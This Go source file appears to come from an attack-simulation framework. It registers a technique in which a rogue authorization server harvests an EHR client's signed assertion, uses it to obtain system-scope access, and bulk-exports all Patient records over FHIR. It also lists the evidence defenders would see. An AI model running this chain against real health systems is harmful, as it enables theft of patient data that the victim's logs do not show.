package attacker

import (
	"context"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
)

var _ = register("CH-01", Technique{
	Title: "Spring sun: from a borrowed address to every record",
	Story: "The regional server, which the thief runs, names the honest server's token endpoint as its own (X-02). The EHR addresses an assertion there and " +
		"hands it to him (X-05). He shows a key of his own with it, asks for the EHR's machine access (SM-07), and exports whatever " +
		"there is (F-16). The EHR's own log shows no such requests.",
	Reads: []string{"CVE-2025-27370", "ePrint 2025/629", "FAPI 2.0 SP 5.3.2.1-8", "SMART App Launch, backend services"},
	Evidence: "An assertion for an endpoint of this server, with a key nobody has seen, from an address that is not the client's; then machine access and " +
		"an export, and no outbound call of the client's to match.",
	Needs: []event.Vantage{event.RogueAS}, Against: []Trait{KeyAuth, Pushed},
	Run: func(ctx context.Context, g Ground) error {
		h, err := newHarvester(ctx, g)
		if err != nil {
			return err
		}
		assertion, err := h.assertion()
		if err != nil {
			return err
		}
		a, err := posing(ctx, g, "")
		if err != nil {
			return err
		}
		t, err := a.token(ctx, url.Values{
			"grant_type": {"client_credentials"}, "scope": {"system/*.rs"}, "resource": {g.Target().FHIRBase},
		}, as(assertion))
		if err != nil {
			return err
		}
		ans, err := a.startExport(ctx, g.Target().FHIRBase+"/$export?_type=Patient", t)
		if err != nil {
			return err
		}
		if ans.status != http.StatusAccepted {
			return ErrStopped
		}
		return a.fetchExport(ctx, ans.header.Get("Content-Location"), t)
	},
})
